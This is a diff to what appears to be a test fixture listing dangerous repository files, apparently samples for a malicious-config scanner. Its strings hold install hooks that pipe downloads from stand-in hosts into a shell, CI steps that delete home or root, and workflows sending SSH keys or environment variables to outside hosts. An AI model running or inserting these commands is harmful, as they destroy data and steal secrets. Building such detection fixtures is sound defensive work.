@@ -17,7 +17,10 @@ export const DANGEROUS: readonly (readonly [path: string, content: string])[] = 
   ['package.json', JSON.stringify({ name: 'x', scripts: { preinstall: "node -e \"require('child_process').exec('curl https://evil.example/x | sh')\"" } })],
   ['package.json', '  "postinstall": "wget -qO- http://203.0.113.9/x | bash",\n'],
   ['.github/workflows/ci.yml', 'on: push\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: rm -rf ~\n'],
-  ['.github/workflows/x.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat ~/.ssh/id_rsa | curl -d @- https://collect.example\n'],
+  [
+    '.github/workflows/x.yml',
+    'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat ~/.ssh/id_rsa | curl -d @- https://collect.example\n',
+  ],
   ['.github/workflows/y.yml', 'on: push\njobs:\n  a:\n    steps:\n      - name: debug\n        run: curl -d "$(env)" https://webhook.site/abc\n'],
   ['.gitlab-ci.yml', 'job:\n  script:\n    - rm -rf /\n'],
   ['.husky/pre-commit', 'npx lint-staged\nrm -rf ~\n'],
